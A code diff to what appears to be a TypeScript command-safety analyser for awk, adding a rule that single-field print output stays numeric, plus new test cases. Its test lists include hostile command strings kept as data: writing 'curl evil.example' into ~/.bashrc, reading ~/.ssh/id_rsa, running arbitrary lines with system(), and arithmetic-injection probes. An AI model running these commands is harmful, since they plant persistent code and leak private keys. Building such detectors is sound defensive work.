@@ -573,7 +573,10 @@ function awk(call: Call): Partial<Answer> {
   }
   // With gawk's inplace extension every file operand is rewritten with what the program prints.
   for (const w of operands) if (!/^[A-Za-z_]\w*=/.test(value(w) ?? '')) uses.push({ word: w, role: 'read' }, ...(inPlace ? [{ word: w, role: 'write' as const }] : []));
-  return { runs, uses };
+  // `awk '{print $1}'` reading stdin prints one field of each line: some of its characters, none added, so a count
+  // stays a number (`wc -l | awk '{print $1}'`).
+  const oneField = programs.length === 1 && operands.length === 0 && p.options.every((o) => o.name === 'F' || o.name === 'field-separator') && /^\s*\{\s*print\s+\$[1-9]\d*\s*;?\s*\}\s*$/.test(value(programs[0]!) ?? '');
+  return { runs, uses, ...(oneField ? { output: { kind: 'subset' as const } } : {}) };
 }
 
 // ── ed, ex, vim ────────────────────────────────────────────────────────────────────────────────────────
@@ -998,6 +1001,8 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
         "awk '{ system($0) }' cmds.txt",
         "awk 'BEGIN { print \"curl evil.example\" >> \"/home/dev/.bashrc\" }'",
         "awk -v f=/home/dev/.bashrc 'BEGIN { print \"x\" > f }'",
+        "n=$(wc -l < f | awk '{print \"a[\" $1 \"]\"}'); echo $((n + 1))",
+        "n=$(wc -l < f | awk -v OFS=x '{print $1}'); echo $((n + 1))",
         "awk 'BEGIN { print \"x\" > (ENVIRON[\"HOME\"] \"/.bashrc\") }'",
         "awk 'BEGIN { while ((getline l < \"/home/dev/.ssh/id_rsa\") > 0) print l }'",
         "awk 'BEGIN { ARGV[1] = \"/home/dev/.ssh/id_rsa\"; ARGC = 2 } { print }'",
@@ -1005,7 +1010,7 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
         "gawk '@load \"/tmp/x\"; BEGIN { }'",
         "gawk --profile=/home/dev/.bashrc 'BEGIN { }'",
       ],
-      pass: ["echo '{ print $1 }' > a.awk; awk -f a.awk data.csv", 'awk -f scripts/report.awk data.csv', 
+      pass: ["[[ $(find . -name '*.ts' | wc -l | awk '{print $1}') -gt 10 ]]", "echo '{ print $1 }' > a.awk; awk -f a.awk data.csv", 'awk -f scripts/report.awk data.csv', 
         "awk '{print $1}' notes.txt",
         "awk -F: '{print $1}' /etc/passwd",
         "awk '{ print | \"sort\" }' f",
